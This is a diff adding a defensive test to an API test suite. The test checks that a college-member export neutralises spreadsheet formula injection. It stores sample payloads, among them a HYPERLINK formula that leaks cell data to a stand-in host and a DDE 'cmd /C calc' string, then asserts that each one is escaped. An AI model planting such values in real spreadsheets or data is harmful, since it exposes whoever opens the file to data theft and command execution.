@@ -698,6 +698,52 @@ describe('college details and members', () => {
     const lines = text.body.trim().split('\n');
     expect(lines[0]).toBe('姓名\t手机号\t学号\t角色');
     expect(lines.find((l) => l.includes(phone))).toBe(`李老师\t${phone}\tT01\t教师、学生`);
+    // Cells a spreadsheet would take for formulas are kept as text (a leading apostrophe); a tab or line break in
+    // a cell cannot start another cell or row.
+    const hostile = uniquePhone();
+    expectOk(
+      await call(t.app, {
+        method: 'POST',
+        url: '/api/collegeUser/save',
+        token: w.admin.token,
+        payload: {
+          phone: hostile,
+          realName: '=HYPERLINK("http://x.example/?"&A1,"点我")',
+          studentId: "=cmd|' /C calc'!A0",
+          roles: [3],
+        },
+      }),
+    );
+    const exported = async () =>
+      (
+        await t.app.inject({
+          url: '/api/collegeUser/export?type=1',
+          headers: { authorization: `Bearer ${w.admin.token}` },
+        })
+      ).body;
+    expect((await exported()).split('\n').find((l) => l.includes(hostile))).toBe(
+      `'=HYPERLINK("http://x.example/?"&A1,"点我")\t${hostile}\t'=cmd|' /C calc'!A0\t学生`,
+    );
+    const hostileUpdate = expectOk(
+      await call<{ rows: { id: number }[] }>(t.app, {
+        url: `/api/collegeUser/page?keyword=${hostile}`,
+        token: w.admin.token,
+      }),
+    ).rows[0]!;
+    expectOk(
+      await call(t.app, {
+        method: 'POST',
+        url: '/api/collegeUser/update',
+        token: w.admin.token,
+        payload: { id: hostileUpdate.id, realName: '@SUM(1+1)', studentId: 'a\t=1+1\nb', roles: [3] },
+      }),
+    );
+    const again = await exported();
+    expect(again.split('\n').find((l) => l.includes(hostile))).toBe(`'@SUM(1+1)\t${hostile}\ta =1+1 b\t学生`);
+    for (const line of again.trim().split('\n')) {
+      for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+\-@]/);
+    }
+    expectOk(await call(t.app, { url: `/api/collegeUser/delete?id=${hostileUpdate.id}`, token: w.admin.token }));
     expectOk(await call(t.app, { url: `/api/collegeUser/delete?id=${id}`, token: w.admin.token }));
     expect((await call(t.app, { url: `/api/collegeUser/detail?id=${id}`, token: w.admin.token })).status).toBe(404);
   });
